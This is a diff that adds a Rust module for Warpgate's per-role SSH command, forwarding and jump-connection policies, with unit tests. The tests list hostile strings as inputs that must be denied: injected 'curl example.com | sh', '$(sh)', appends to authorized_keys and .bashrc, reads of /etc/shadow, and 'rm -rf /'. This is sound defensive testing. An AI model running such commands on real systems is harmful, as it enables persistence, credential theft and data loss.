@@ -0,0 +1,358 @@
+//! Per-target, per-role restrictions on what a session may do on the target.
+//!
+//! Only the policies that apply to one of the user's roles (or to all roles)
+//! are considered.
+//!
+//! A command is rejected if it matches any deny pattern, or if allow patterns
+//! exist and it matches none of them. Patterns have to match the whole command.
+//! Allow patterns never match commands containing shell metacharacters or
+//! redirections, since `deploy *` would otherwise also allow `deploy x; sh`
+//! or `deploy x > ~/.bashrc`. When allow patterns exist, shells and
+//! subsystems are rejected, as their commands can't be checked.
+//!
+//! A kind of forwarding is rejected if any policy disables it. Local forwards
+//! additionally have to match one of the `host:port` glob patterns if any are given.
+//!
+//! Jump connections are plain TCP streams to the target's SSH server that
+//! Warpgate can't look into, so they're refused whenever any of these
+//! policies or a session limit applies.
+
+use regex::Regex;
+use tracing::*;
+use warpgate_common::{
+    SshCommandPatternKind, SshCommandPolicy, SshForwardingPolicy, TargetSSHOptions,
+};
+use warpgate_core::SessionLimits;
+use wildmatch::WildMatch;
+
+fn applies_to(policy_roles: &Option<Vec<String>>, roles: &[String]) -> bool {
+    match policy_roles {
+        Some(policy_roles) => policy_roles.iter().any(|r| roles.contains(r)),
+        None => true,
+    }
+}
+
+#[derive(Debug, PartialEq, Eq)]
+pub enum CommandDecision {
+    Allowed,
+    Denied(String),
+}
+
+const SHELL_METACHARACTERS: &[char] = &[';', '|', '&', '$', '`', '>', '<', '\n', '\r'];
+
+fn matches(
+    kind: SshCommandPatternKind,
+    pattern: &str,
+    command: &str,
+) -> Result<bool, regex::Error> {
+    Ok(match kind {
+        SshCommandPatternKind::Glob => WildMatch::new(pattern).matches(command),
+        SshCommandPatternKind::Regex => Regex::new(&format!("^(?:{pattern})$"))?.is_match(command),
+    })
+}
+
+pub fn evaluate_command_policies(
+    policies: &[SshCommandPolicy],
+    roles: &[String],
+    command: &str,
+) -> CommandDecision {
+    let applicable = policies
+        .iter()
+        .filter(|policy| applies_to(&policy.roles, roles));
+
+    let mut has_allow_list = false;
+    let mut allowed = false;
+    let allowable = !command.contains(SHELL_METACHARACTERS);
+    for policy in applicable {
+        for pattern in policy.deny.iter() {
+            match matches(policy.pattern_kind, pattern, command) {
+                Ok(true) => return CommandDecision::Denied(format!("matches {pattern:?}")),
+                Ok(false) => (),
+                Err(error) => {
+                    error!(%pattern, %error, "Invalid command pattern");
+                    return CommandDecision::Denied("invalid command policy".into());
+                }
+            }
+        }
+        for pattern in policy.allow.iter() {
+            has_allow_list = true;
+            if !allowable {
+                continue;
+            }
+            match matches(policy.pattern_kind, pattern, command) {
+                Ok(matched) => allowed |= matched,
+                Err(error) => error!(%pattern, %error, "Invalid command pattern"),
+            }
+        }
+    }
+
+    if has_allow_list && !allowed {
+        return CommandDecision::Denied("not in the list of allowed commands".into());
+    }
+    CommandDecision::Allowed
+}
+
+/// Whether only specific commands may be run, which rules out interactive shells and subsystems
+pub fn has_command_allow_list(policies: &[SshCommandPolicy], roles: &[String]) -> bool {
+    policies
+        .iter()
+        .any(|policy| applies_to(&policy.roles, roles) && !policy.allow.is_empty())
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ForwardingKind {
+    /// `direct-tcpip` channels to the given host and port
+    Local,
+    Remote,
+    X11,
+}
+
+pub fn evaluate_forwarding_policies(
+    policies: &[SshForwardingPolicy],
+    roles: &[String],
+    kind: ForwardingKind,
+    destination: Option<(&str, u32)>,
+) -> bool {
+    let mut destination_patterns = vec![];
+    for policy in policies
+        .iter()
+        .filter(|policy| applies_to(&policy.roles, roles))
+    {
+        let allowed = match kind {
+            ForwardingKind::Local => policy.allow_local,
+            ForwardingKind::Remote => policy.allow_remote,
+            ForwardingKind::X11 => policy.allow_x11,
+        };
+        if allowed == Some(false) {
+            return false;
+        }
+        if let Some(ref patterns) = policy.local_destinations {
+            destination_patterns.extend(patterns.iter());
+        }
+    }
+
+    match (kind, destination) {
+        (ForwardingKind::Local, Some((host, port))) if !destination_patterns.is_empty() => {
+            let destination = format!("{host}:{port}");
+            destination_patterns
+                .iter()
+                .any(|pattern| WildMatch::new(pattern).matches(&destination))
+        }
+        _ => true,
+    }
+}
+
+/// The restriction that rules out a jump connection to the target, if any
+pub fn jump_restriction(options: &TargetSSHOptions, roles: &[String]) -> Option<&'static str> {
+    let command_policies = options.command_policies.as_deref().unwrap_or_default();
+    if command_policies
+        .iter()
+        .any(|policy| applies_to(&policy.roles, roles))
+    {
+        return Some("command policies");
+    }
+    let forwarding_policies = options.forwarding_policies.as_deref().unwrap_or_default();
+    if forwarding_policies
+        .iter()
+        .any(|policy| applies_to(&policy.roles, roles))
+    {
+        return Some("forwarding policies");
+    }
+    let session_limits = options.session_limits.as_deref().unwrap_or_default();
+    if !SessionLimits::for_roles(session_limits, roles).is_empty() {
+        return Some("session limits");
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn evaluates_forwarding_policies() {
+        let policies = vec![
+            SshForwardingPolicy {
+                roles: None,
+                allow_local: None,
+                allow_remote: Some(false),
+                allow_x11: None,
+                local_destinations: Some(vec!["localhost:*".to_owned(), "db-?:5432".to_owned()]),
+            },
+            SshForwardingPolicy {
+                roles: Some(vec!["ci".to_owned()]),
+                allow_local: Some(false),
+                allow_remote: None,
+                allow_x11: Some(false),
+                local_destinations: None,
+            },
+        ];
+        let dev = ["dev".to_owned()];
+        let ci = ["ci".to_owned()];
+
+        assert!(evaluate_forwarding_policies(
+            &policies,
+            &dev,
+            ForwardingKind::Local,
+            Some(("db-1", 5432))
+        ));
+        assert!(!evaluate_forwarding_policies(
+            &policies,
+            &dev,
+            ForwardingKind::Local,
+            Some(("db-1", 22))
+        ));
+        assert!(!evaluate_forwarding_policies(
+            &policies,
+            &dev,
+            ForwardingKind::Remote,
+            None
+        ));
+        assert!(evaluate_forwarding_policies(
+            &policies,
+            &dev,
+            ForwardingKind::X11,
+            None
+        ));
+        assert!(!evaluate_forwarding_policies(
+            &policies,
+            &ci,
+            ForwardingKind::Local,
+            Some(("localhost", 80))
+        ));
+        assert!(evaluate_forwarding_policies(
+            &[],
+            &ci,
+            ForwardingKind::Remote,
+            None
+        ));
+    }
+
+    #[test]
+    fn evaluates_policies_for_roles() {
+        let policies = vec![
+            SshCommandPolicy {
+                roles: Some(vec!["ci".to_owned()]),
+                pattern_kind: SshCommandPatternKind::Glob,
+                allow: vec!["deploy *".to_owned(), "uptime".to_owned()],
+                deny: vec![],
+            },
+            SshCommandPolicy {
+                roles: None,
+                pattern_kind: SshCommandPatternKind::Regex,
+                allow: vec![],
+                deny: vec![r".*rm\s+-rf.*".to_owned()],
+            },
+        ];
+        let ci = ["ci".to_owned()];
+        let admin = ["admin".to_owned()];
+
+        assert_eq!(
+            evaluate_command_policies(&policies, &ci, "deploy web"),
+            CommandDecision::Allowed
+        );
+        assert!(matches!(
+            evaluate_command_policies(&policies, &ci, "cat /etc/shadow"),
+            CommandDecision::Denied(_)
+        ));
+        assert!(matches!(
+            evaluate_command_policies(&policies, &ci, "deploy x; rm -rf /"),
+            CommandDecision::Denied(_)
+        ));
+        assert_eq!(
+            evaluate_command_policies(&policies, &admin, "cat /etc/shadow"),
+            CommandDecision::Allowed
+        );
+        assert!(matches!(
+            evaluate_command_policies(&policies, &admin, "rm -rf /tmp"),
+            CommandDecision::Denied(_)
+        ));
+        assert_eq!(
+            evaluate_command_policies(&[], &admin, "anything"),
+            CommandDecision::Allowed
+        );
+        assert!(has_command_allow_list(&policies, &ci));
+        assert!(!has_command_allow_list(&policies, &admin));
+    }
+
+    #[test]
+    fn allow_patterns_reject_shell_metacharacters() {
+        for (pattern_kind, pattern) in [
+            (SshCommandPatternKind::Glob, "deploy *"),
+            (SshCommandPatternKind::Regex, "deploy .*"),
+        ] {
+            let policies = vec![SshCommandPolicy {
+                roles: None,
+                pattern_kind,
+                allow: vec![pattern.to_owned()],
+                deny: vec![],
+            }];
+            let roles = ["ci".to_owned()];
+
+            assert_eq!(
+                evaluate_command_policies(&policies, &roles, "deploy web --fast"),
+                CommandDecision::Allowed
+            );
+            for command in [
+                "deploy x; curl example.com | sh",
+                "deploy x && sh",
+                "deploy $(sh)",
+                "deploy `sh`",
+                "deploy x\nsh",
+                "deploy x > ~/.bashrc",
+                "deploy x >> ~/.ssh/authorized_keys",
+                "deploy x < /etc/shadow",
+            ] {
+                assert!(
+                    matches!(
+                        evaluate_command_policies(&policies, &roles, command),
+                        CommandDecision::Denied(_)
+                    ),
+                    "{command:?} should be denied by {pattern:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    #[allow(clippy::unwrap_used)]
+    fn jump_connections_are_refused_when_restrictions_apply() {
+        let options = |extra: serde_json::Value| -> TargetSSHOptions {
+            let mut options = serde_json::json!({ "host": "10.0.0.5" });
+            if let (Some(options), Some(extra)) = (options.as_object_mut(), extra.as_object()) {
+                options.extend(extra.clone());
+            }
+            serde_json::from_value(options).unwrap()
+        };
+        let dev = ["dev".to_owned()];
+        let ci = ["ci".to_owned()];
+
+        assert_eq!(
+            jump_restriction(&options(serde_json::json!({})), &dev),
+            None
+        );
+
+        let commands = options(serde_json::json!({
+            "command_policies": [{ "roles": ["ci"], "deny": ["rm *"] }],
+        }));
+        assert_eq!(jump_restriction(&commands, &ci), Some("command policies"));
+        assert_eq!(jump_restriction(&commands, &dev), None);
+
+        let forwarding = options(serde_json::json!({
+            "forwarding_policies": [{ "allow_x11": false }],
+        }));
+        assert_eq!(
+            jump_restriction(&forwarding, &dev),
+            Some("forwarding policies")
+        );
+
+        let limits = options(serde_json::json!({
+            "session_limits": [
+                { "roles": ["ci"], "max_duration_seconds": 600 },
+                { "roles": ["dev"] },
+            ],
+        }));
+        assert_eq!(jump_restriction(&limits, &ci), Some("session limits"));
+        assert_eq!(jump_restriction(&limits, &dev), None);
+    }
+}